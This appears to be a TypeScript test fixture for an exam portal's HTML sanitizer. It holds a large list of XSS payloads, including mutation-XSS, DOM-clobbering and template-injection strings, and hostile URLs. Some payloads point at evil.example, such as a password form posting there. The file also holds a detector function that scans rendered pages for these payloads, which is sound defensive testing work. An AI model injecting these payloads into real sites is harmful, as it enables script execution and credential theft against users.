/** These texts run, load or navigate when they are inserted as HTML. */
const marks: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea><iframe srcdoc="<script>parent.alert(1)</script>">',
  '--><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href=" &#14; javascript:alert(1)">klik</a>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<body onpageshow=alert(1)><img src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>jalan</marquee>',
  '<table><td background="javascript:alert(1)"><input autofocus onfocus=alert(1)></table>',
  '<p style="background:url(https://evil.example/x)" class="sc-a" id="konten" onclick="alert(1)">teks</p>',
  '<img src="data:text/html,<script>alert(1)</script>" onerror="alert(1)" alt="grafik">',
  '<img src="https://evil.example/p.png" alt="grafik"><img srcset="https://evil.example/q.png 1x" alt="dua">',
  '<img src="https://api.lsp.example@evil.example/p.png"><img src="//evil.example/p.png"><img src="\\\\evil.example/p.png">',
  '<picture><source srcset="https://evil.example/a.png"><img src="data:image/png;base64,AAAA"></picture>',
  '<a href="javascript:alert(1)" target=_blank>klik</a><area href=javascript:alert(1)>',
  '<dialog open><button formaction=javascript:alert(1)>x</button></dialog><details ontoggle=alert(1) open>y</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><object data=javascript:alert(1)></object>',
  '<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<embed src="javascript:alert(1)"><object data="data:text/html,<script>alert(1)</script>"></object>',
  '<p is="x-a" slot=a part=b data-x=1 aria-label="bohong" tabindex=5 contenteditable>teks</p>',
  '<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>y</button>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
];

/** These texts change when they are serialized and parsed again, or become different elements in another namespace. */
const mutations: readonly string[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><p><img src onerror=alert(1)></annotation-xml></math>',
  '<math><mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<p id="</p><img src=x onerror=alert(1)>"><title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<svg/onload=alert(1)>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"></animate><text y=9>klik</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></set></svg>',
  '<svg><use href="data:image/svg+xml,%3Csvg id=x onload=alert(1) xmlns=%22http://www.w3.org/2000/svg%22/%3E#x"></use></svg>',
  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  '<img src=x onerror\u0000=alert(1)><im\u0000g src=x onerror=alert(1)>',
];

/** Named elements that shadow properties which the program uses. */
const clobbering: readonly string[] = [
  '<img name="body"><img name="safeHtml"><form name="attributes"><input name="childNodes"></form>',
  '<div id="root"></div><form name="cookie"><input name="getElementById"></form>',
  '<a id="portalConfig" name="portalConfig"></a><a id="portalConfig" name="api" href="https://evil.example/"></a>',
];

/** These texts run, or lead to another host, when they are used as an address. */
export const hostileAddresses: readonly string[] = [
  'javascript:alert(1)//',
  ' javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'javascript\n:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://evil.example/1',
  '//evil.example/p.png',
  '/\\evil.example/p.png',
  'https://evil.example/p.png',
];

/** These texts run only inside a template or a script, or when they are parsed a second time. */
const templates: readonly string[] = [
  "';alert(1);//",
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that some code might evaluate
  '${alert(1)}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
];

/** Misleading or invisible characters, and text without a break. */
const unseen: readonly string[] = [
  '\u202Egnp.exe\u202C\u2066balik\u2069',
  'kata\u200Bnol\uFEFFlebar\u200D',
  'kiri\u200Ekanan\u200Farab\u061C.pdf',
  'lonceng\u0007mundur\u0008hapus\u007Fsela\u0085.pdf',
  'TanpaSpasi'.repeat(40),
];

/** Texts that `dangersInDocument` must find on a page that inserts them as HTML. */
export const hostileHtml: readonly string[] = [...marks, ...mutations, ...clobbering];

export const hostileTexts: readonly string[] = [...hostileHtml, ...hostileAddresses, ...templates, ...unseen];

/**
 * Everything in the document that could run, load or navigate where it must not. This function is self-contained, because tests also
 * serialize it into a browser. `ownScripts`: the inline scripts that a build may have in its head.
 */
export const dangersInDocument = (ownScripts: readonly string[] = []): string[] => {
  const dangers: string[] = [];
  const runs =
    /^[\0-\x20]*(j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|vbscript|data:(?!image\/(png|jpeg|webp)[;,])|blob:https:\/\/evil)/i;
  const never =
    /^(iframe|object|embed|base|math|xmp|plaintext|marquee|audio|video|area|animate|set|use|foreignobject|template|meta|link|style)$/;
  const leads = ['href', 'src', 'xlink:href', 'action', 'formaction', 'srcdoc', 'background', 'data', 'values'];
  const fields = 'input, select, textarea, button, meta, fieldset, details';
  for (const element of document.querySelectorAll('*')) {
    const name = element.tagName.toLowerCase();
    const of = (what: string) => `${what} in ${element.outerHTML.slice(0, 120)}`;
    const isOfBuild = element.matches('head *, body > link[rel="preload"][as="font"][href^="/assets/"]');
    const isPictureOfQuestion =
      name === 'img' && location.pathname.startsWith('/myassessment/exam/') && element.closest('main') !== null;
    if (never.test(name) && !isOfBuild) dangers.push(of(name));
    const isInline = name === 'script' && !(element as HTMLScriptElement).src;
    const isOwn = element.parentElement === document.head && ownScripts.includes(element.textContent);
    if (name === 'base' || (isInline && !isOwn)) dangers.push(of(name));
    if (element.hasAttribute('name') && !element.matches(fields)) dangers.push(of('name'));
    if (element.hasAttribute('is') || element.hasAttribute('contenteditable')) dangers.push(of('is'));
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith('on')) dangers.push(of(attribute));
      const isDrawing = attribute === 'src' && /^data:image\/svg\+xml[;,]/i.test(value); // an <img> does not run the scripts of an SVG
      if (leads.includes(attribute) && runs.test(value) && !(isPictureOfQuestion && isDrawing))
        dangers.push(of(attribute));
      if (
        /[/\\@]evil\.example/.test(value) && // encoded inside an address of the portal, this host is harmless
        !['title', 'value', 'alt', 'placeholder', 'data-known'].includes(attribute) &&
        !attribute.startsWith('aria-')
      )
        dangers.push(of(attribute));
    }
  }
  return dangers;
};
